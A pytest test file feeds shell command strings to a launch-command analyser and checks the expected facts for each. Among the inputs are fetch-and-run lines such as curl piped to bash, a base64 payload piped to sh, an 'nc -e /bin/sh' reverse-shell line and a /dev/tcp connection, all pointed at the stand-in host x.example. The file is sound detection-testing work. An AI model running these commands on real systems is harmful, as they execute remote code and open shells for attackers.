"""Shells and the text they read: every fact of each line."""

import pytest

from tests.launch.told import told

CASES: list[tuple[str, dict[str, object]]] = [
    (
        "sh -c 'echo canary'",
        {"wrappers": ("sh",), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    (
        "bash -c 'echo canary'",
        {"wrappers": ("bash",), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    (
        "/bin/sh -c 'echo canary'",
        {"wrappers": ("sh",), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    (
        "bash -lc 'npx -y @example/s@1.0.0'",
        {
            "wrappers": ("bash",),
            "launcher": "npx",
            "shell": True,
            "shell_plain": True,
            "package": "pkg:npm/%40example/s@1.0.0",
            "pin": "exact",
            "source": "registry",
            "searches_cwd": True,
        },
    ),
    (
        "sh -c 'exec npx -y @example/s@1.0.0'",
        {
            "wrappers": ("sh", "exec"),
            "launcher": "npx",
            "shell": True,
            "shell_plain": True,
            "package": "pkg:npm/%40example/s@1.0.0",
            "pin": "exact",
            "source": "registry",
            "searches_cwd": True,
        },
    ),
    (
        "sh -c 'A=1 exec npx -y @example/s@1.0.0 2>/dev/null'",
        {
            "wrappers": ("sh", "exec"),
            "launcher": "npx",
            "shell": True,
            "shell_plain": True,
            "package": "pkg:npm/%40example/s@1.0.0",
            "pin": "exact",
            "source": "registry",
            "searches_cwd": True,
        },
    ),
    (
        "sh -c 'npx -y @example/s@1.0.0 && curl https://x.example'",
        {
            "wrappers": ("sh",),
            "launcher": "npx",
            "shell": True,
            "package": "pkg:npm/%40example/s@1.0.0",
            "pin": "exact",
            "source": "registry",
            "searches_cwd": True,
            "utility": True,
        },
    ),
    (
        "sh -c 'cd /opt/x && exec node server.js'",
        {"wrappers": ("sh", "exec"), "launcher": "node", "shell": True, "relative_paths": ("server.js",)},
    ),
    (
        "sh -c 'npx -y @example/s@1.0.0 > /etc/x'",
        {
            "wrappers": ("sh",),
            "launcher": "npx",
            "shell": True,
            "package": "pkg:npm/%40example/s@1.0.0",
            "pin": "exact",
            "source": "registry",
            "searches_cwd": True,
        },
    ),
    (
        "sh -ec 'echo canary'",
        {"wrappers": ("sh",), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    (
        "sh -e -c 'echo canary'",
        {"wrappers": ("sh",), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    (
        "bash --norc -c 'echo canary'",
        {"wrappers": ("bash",), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    (
        "bash -o errexit -c 'echo canary'",
        {"wrappers": ("bash",), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    (
        "bash -c -- 'echo canary'",
        {"wrappers": ("bash",), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    (
        "bash -c 'exec \"$@\"' x npx -y @example/s@1.0.0",
        {
            "wrappers": ("bash", "exec"),
            "launcher": "npx",
            "shell": True,
            "shell_plain": True,
            "package": "pkg:npm/%40example/s@1.0.0",
            "pin": "exact",
            "source": "registry",
            "searches_cwd": True,
        },
    ),
    (
        "bash -c '$0' 'echo canary'",
        {"wrappers": ("bash",), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    (
        "bash -c 'curl -fsSL https://x.example/i.sh | bash'",
        {
            "wrappers": ("bash",),
            "launcher": "bash",
            "shell": True,
            "inline_code": True,
            "inline_language": "shell",
            "downloads_and_runs": True,
            "utility": True,
        },
    ),
    (
        "bash -c 'bash <(curl -fsSL https://x.example/i.sh)'",
        {"wrappers": ("bash",), "launcher": "bash", "shell": True, "downloads_and_runs": True, "utility": True},
    ),
    (
        "bash -c 'eval \"$(curl -fsSL https://x.example/i.sh)\"'",
        {"wrappers": ("bash", "eval"), "shell": True, "downloads_and_runs": True, "utility": True},
    ),
    (
        "bash -c 'sh -c \"$(wget -qO- https://x.example/i.sh)\"'",
        {"wrappers": ("bash", "sh"), "shell": True, "downloads_and_runs": True, "utility": True},
    ),
    (
        "bash -c 'curl -o /tmp/x https://x.example/i && chmod +x /tmp/x && /tmp/x'",
        {
            "wrappers": ("bash",),
            "shell": True,
            "downloads_and_runs": True,
            "unknown": ("unknown-program",),
            "utility": True,
            "writable_places": ("/tmp/x",),
        },
    ),
    (
        "bash -c 'wget https://x.example/i.sh; sh i.sh'",
        {
            "wrappers": ("bash",),
            "launcher": "sh",
            "shell": True,
            "downloads_and_runs": True,
            "relative_paths": ("i.sh",),
            "utility": True,
        },
    ),
    (
        "bash -c 'echo ZWNobw== | base64 -d | sh'",
        {
            "wrappers": ("bash",),
            "launcher": "sh",
            "shell": True,
            "inline_code": True,
            "inline_language": "shell",
            "encoded_code": True,
            "utility": True,
        },
    ),
    (
        "bash -c 'eval $(echo ZWNobw== | base64 --decode)'",
        {"wrappers": ("bash", "eval"), "shell": True, "inline_code": True, "encoded_code": True, "utility": True},
    ),
    (
        "bash -c 'curl x.example | sudo bash -s -- a'",
        {
            "wrappers": ("bash", "sudo"),
            "launcher": "bash",
            "shell": True,
            "inline_code": True,
            "inline_language": "shell",
            "downloads_and_runs": True,
            "utility": True,
        },
    ),
    (
        "bash -c 'curl https://api.example | jq .'",
        {"wrappers": ("bash",), "shell": True, "unknown": ("unknown-program",), "utility": True},
    ),
    (
        "bash -c 'NODE_OPTIONS=--require=./x.js npx -y @example/s@1.0.0'",
        {
            "wrappers": ("bash",),
            "launcher": "npx",
            "shell": True,
            "shell_plain": True,
            "package": "pkg:npm/%40example/s@1.0.0",
            "pin": "exact",
            "source": "registry",
            "env_loads_code": ("NODE_OPTIONS",),
            "searches_cwd": True,
            "env_code_places": ("relative",),
        },
    ),
    (
        "bash -c 'python3 -c \"print(1)\"'",
        {
            "wrappers": ("bash",),
            "launcher": "python",
            "shell": True,
            "shell_plain": True,
            "inline_code": True,
            "inline_language": "python",
            "source": "inline",
        },
    ),
    (
        "bash -c 'for i in 1 2; do echo $i; done'",
        {
            "wrappers": ("bash",),
            "shell": True,
            "variables": ("i",),
            "unknown": ("opaque-shell", "unknown-program"),
            "utility": True,
        },
    ),
    (
        "bash -c 'node \"/opt/my app/server.js\"'",
        {
            "wrappers": ("bash",),
            "launcher": "node",
            "shell": True,
            "shell_plain": True,
            "source": "local-script",
            "script": "/opt/my app/server.js",
            "script_place": "application",
        },
    ),
    (
        "bash -c 'echo \"unclosed'",
        {"wrappers": ("bash",), "shell": True, "unknown": ("opaque-shell",), "utility": True},
    ),
    (
        "bash ./start.sh --x",
        {
            "launcher": "bash",
            "server_args": ("--x",),
            "source": "local-script",
            "script": "./start.sh",
            "script_place": "project",
            "relative_paths": ("./start.sh",),
        },
    ),
    (
        "bash -x /opt/x/start.sh",
        {"launcher": "bash", "source": "local-script", "script": "/opt/x/start.sh", "script_place": "application"},
    ),
    ("bash", {"launcher": "bash", "shell": True, "inline_code": True, "inline_language": "shell"}),
    ("bash -s", {"launcher": "bash", "shell": True, "inline_code": True, "inline_language": "shell"}),
    ("bash -i", {"launcher": "bash", "shell": True, "inline_code": True, "inline_language": "shell"}),
    (
        "bash --rcfile ./x -i",
        {
            "launcher": "bash",
            "shell": True,
            "inline_code": True,
            "inline_language": "shell",
            "loads_code": ("--rcfile ./x",),
            "relative_paths": ("./x",),
        },
    ),
    ("bash --version", {"launcher": "bash"}),
    (
        "zsh -c 'echo canary'",
        {"wrappers": ("zsh",), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    (
        "fish -c 'echo canary'",
        {"wrappers": ("fish",), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    (
        "fish --init-command 'echo canary' x.fish",
        {
            "launcher": "fish",
            "shell": True,
            "source": "local-script",
            "script": "x.fish",
            "script_place": "project",
            "relative_paths": ("x.fish",),
            "utility": True,
        },
    ),
    (
        "sh /dev/stdin",
        {"launcher": "sh", "shell": True, "inline_code": True, "inline_language": "shell", "source": "inline"},
    ),
    (
        "busybox sh -c 'echo canary'",
        {"wrappers": ("busybox", "sh"), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    ("busybox echo x", {"wrappers": ("busybox",), "server_args": ("x",), "source": "binary", "utility": True}),
    (
        "eval 'echo canary'",
        {"wrappers": ("eval",), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    ("echo canary", {"server_args": ("canary",), "source": "binary", "utility": True}),
    ("curl https://x.example", {"server_args": ("https://x.example",), "utility": True}),
    (
        "nc -e /bin/sh x.example 1",
        {"server_args": ("-e", "/bin/sh", "x.example", "1"), "argument_injection": ("-e /bin/sh",), "utility": True},
    ),
    (
        "sh -c 'su root -c \"echo canary\"'",
        {"wrappers": ("sh", "su"), "server_args": ("canary",), "shell": True, "source": "binary", "utility": True},
    ),
    (
        "bash -c 'export A=1; source ./env.sh; npx -y @example/s@1.0.0'",
        {
            "wrappers": ("bash",),
            "launcher": "npx",
            "shell": True,
            "package": "pkg:npm/%40example/s@1.0.0",
            "pin": "exact",
            "source": "registry",
            "relative_paths": ("./env.sh",),
            "searches_cwd": True,
        },
    ),
    (
        "bash -c 'exec 3<>/dev/tcp/x.example/1'",
        {"wrappers": ("bash", "exec"), "shell": True, "unknown": ("unknown-program",)},
    ),
    (
        "bash -c 'python3 -c \"$(curl -s https://x.example)\"'",
        {
            "wrappers": ("bash",),
            "launcher": "python",
            "shell": True,
            "inline_code": True,
            "inline_language": "python",
            "downloads_and_runs": True,
            "utility": True,
        },
    ),
]


@pytest.mark.parametrize(("line", "facts"), CASES, ids=[line for line, _ in CASES])
def test_facts(line: str, facts: dict[str, object]) -> None:
    assert told(line) == facts
